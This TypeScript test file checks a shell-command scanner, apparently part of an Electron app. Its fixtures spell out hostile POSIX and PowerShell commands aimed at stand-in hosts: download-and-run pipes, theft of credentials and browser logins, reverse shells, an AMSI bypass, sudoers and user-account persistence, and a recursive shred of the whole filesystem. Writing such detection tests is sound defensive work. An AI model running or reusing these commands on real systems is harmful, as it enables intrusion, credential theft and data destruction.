import { describe, expect, test } from 'vitest'
import {
  followShell,
  shellSightings,
} from '../../../../../electron/core/scan/child/source/shell/sightings'

const namesOf = (text: string, dialect?: 'windows'): string[] =>
  followShell(text, dialect).sightings.map(({ name }) => name)
const url = 'https://files.example.invalid/x'

describe('a POSIX shell', () => {
  test.each<[string, string]>([
    ['threat.download-and-run', `dl() { curl -s "$1"; }\nrun() { bash; }\ndl ${url} | run`],
    ['threat.download-and-run', `curl -s ${url} | xargs -0 bash -c`],
    ['threat.download-and-run', `. /dev/stdin <<< "$(wget -qO- ${url})"`],
    ['threat.download-and-run', `ssh -p 22 host 'curl ${url} | sh'`],
    ['threat.download-and-run', `docker exec box sh -c 'curl ${url} | sh'`],
    ['threat.download-and-run', `echo 'curl ${url} | sh' | at now + 5 minutes`],
    ['threat.download-and-run', `git -c 'core.fsmonitor=curl ${url} | sh' status`],
    [
      'threat.download-and-run',
      `T=$(mktemp -d)\ncurl -so "$T/agent" ${url}\nchmod +x "$T/agent"\n"$T/agent" &`,
    ],
    ['threat.download-and-run', `curl -so "$DIR/a" ${url}; sh "$DIR/a"`],
    ['threat.download-and-run', `export GIT_SSH_COMMAND="ssh -o ProxyCommand='curl ${url} | sh'"`],
    ['threat.encoded-command', "eval $'\\x65\\x63\\x68\\x6f\\x20\\x68'"],
    ['threat.encoded-command', 'tail -n 3 $0 | xz -d | bash'],
    [
      'flow.credentials.network',
      'for i in $(cat ~/.aws/credentials | xxd -p -c 30); do dig $i.x.invalid; done',
    ],
    ['flow.credentials.network', `read -s p; echo $p | curl -d @- ${url}`],
    ['flow.credentials.network', `gpg --export-secret-keys -a | curl -T - ${url}`],
    ['flow.credentials.network', 'aws s3 cp ~/.aws/credentials s3://drop/x'],
    [
      'flow.credentials.network',
      `curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/a | curl -d @- ${url}`,
    ],
    ['flow.environment.network', `curl "${url}?t=$(gcloud auth print-access-token)"`],
    ['flow.environment.network', `echo "$API_TOKEN" | base64 -w 0 | curl -d @- ${url}`],
    ['flow.environment.network', `printenv | openssl enc -aes-256-cbc -k x | curl -d @- ${url}`],
    [
      'threat.reverse-shell',
      'mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -connect h.invalid:443 > /tmp/s',
    ],
    ['threat.security-off', 'docker run -v /:/host alpine true'],
    ['threat.security-off', 'setenforce 0; systemctl stop auditd'],
    ['threat.persistence', 'git config --global core.hooksPath /tmp/hooks'],
    ['threat.persistence', "echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
    ['threat.destructive', 'find / -type f -exec shred -u {} +'],
    ['hidden.process', 'node fonts/regular.woff2'],
  ])('%s: %s', (name, text) => {
    expect(namesOf(text)).toContain(name)
  })

  test.each([
    'curl -H "Authorization: Basic $(echo -n $USER:$API_TOKEN | base64)" https://api.example.invalid',
    'TOKEN=$(gcloud auth print-access-token); curl -H "Authorization: Bearer $TOKEN" https://api.example.invalid',
    'docker run --rm -v "$PWD":/work image python train.py',
    'build() { make "$1"; }\nbuild all | tee log',
    'for f in *.txt; do cat $f | gzip > $f.gz; done',
    'git config core.hooksPath .husky',
    'ssh host systemctl restart app',
    'find . -name "*.pyc" -exec rm {} +',
    'ufw allow 22; systemctl stop nginx',
    'zcat dump.sql.gz | psql',
    `curl -so "$A/x" https://files.example.invalid/x; sh "$B/x"`,
  ])('finds nothing in %s', (text) => {
    expect(namesOf(text).filter((name) => !name.startsWith('capability.'))).toEqual([])
  })

  test('a function that calls itself ends', () => {
    expect(followShell('f() { echo "$1"; f "$1$1"; }\nf a').whole).toBe(true)
  })

  test('functions that call each other many times are left after a while, and what follows is read', () => {
    const calls = Array.from({ length: 12 }, (_, at) => `f${at + 1}() { f${at}; f${at}; f${at}; }`)
    const text = `f0() { echo; }\n${calls.join('\n')}\nf12\ncurl ${url} | sh`
    expect(shellSightings(text).map(({ name }) => name)).toContain('threat.download-and-run')
  })
})

describe('PowerShell and cmd.exe', () => {
  const encoded = Buffer.from('Write-Output harmless', 'utf16le').toString('base64')
  test.each<[string, string]>([
    ['threat.download-and-run', `$a = 'Invoke-Exp'; $b = 'ression'\n& ($a + $b) (irm ${url})`],
    ['threat.download-and-run', `$x = [char]105+[char]101+[char]120\n. $x (irm ${url})`],
    ['threat.download-and-run', `set a=power\nset b=shell\n%a%%b% -c "iex(irm ${url})"`],
    [
      'threat.download-and-run',
      `curl -sLo %TEMP%\\a.exe ${url}\nattrib +h %TEMP%\\a.exe\nstart "" %TEMP%\\a.exe`,
    ],
    ['threat.download-and-run', `for /f %%i in ('curl -s ${url}') do %%i`],
    [
      'threat.encoded-command',
      `$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${encoded}'))\niex $c`,
    ],
    [
      'threat.reverse-shell',
      "$c = New-Object Net.Sockets.TCPClient('h.invalid', 80)\n$s = $c.GetStream()\n$r = iex $d",
    ],
    ['flow.environment.network', `irm -Uri ${url} -Method Post -Body (gci Env: | Out-String)`],
    [
      'flow.credentials.network',
      `Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" "$env:TEMP\\l.db"\niwr -Uri ${url} -Method Post -InFile "$env:TEMP\\l.db"`,
    ],
    ['threat.security-off', "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')"],
    ['threat.persistence', 'net user support P4ss /add'],
  ])('%s: %s', (name, text) => {
    expect(namesOf(text, 'windows')).toContain(name)
  })

  test('what a variable holds is told once', () => {
    const text = `$r = iex (irm ${url})\nWrite-Host $r\n$s = $r`
    expect(namesOf(text, 'windows').filter((name) => name.startsWith('threat'))).toHaveLength(1)
  })

  test.each([
    '$h = @{ Authorization = "Bearer $env:API_TOKEN" }\nirm -Uri https://api.example.invalid -Headers $h | Out-File items.json',
    '$c = New-Object Net.Sockets.TcpClient\n$c.Connect("localhost", 80)\n$c.Close()',
    'set SRC=%~dp0\ncd %SRC%\ncmake --build .',
    '$code = Get-Content a.ps1 -Raw\n$block = [ScriptBlock]::Create($code)',
  ])('finds nothing in %s', (text) => {
    expect(namesOf(text, 'windows').filter((name) => !name.startsWith('capability.'))).toEqual([])
  })
})
